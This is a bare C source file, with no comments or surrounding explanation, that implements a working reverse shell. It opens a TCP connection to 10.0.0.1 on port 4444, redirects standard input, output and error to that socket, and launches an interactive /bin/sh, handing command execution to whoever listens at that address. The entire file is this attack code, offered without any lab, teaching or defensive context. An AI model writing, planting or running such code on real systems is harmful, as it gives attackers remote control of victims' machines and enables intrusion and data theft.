#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void)
{
    struct sockaddr_in sa;
    int s = socket(AF_INET, SOCK_STREAM, 0);

    sa.sin_family = AF_INET;
    sa.sin_port = htons(4444);
    sa.sin_addr.s_addr = inet_addr("10.0.0.1");

    if (connect(s, (struct sockaddr *)&sa, sizeof sa) != 0)
        return 1;

    dup2(s, 0);
    dup2(s, 1);
    dup2(s, 2);

    char *const argv[] = { "/bin/sh", "-i", NULL };
    execve("/bin/sh", argv, NULL);
    return 0;
}
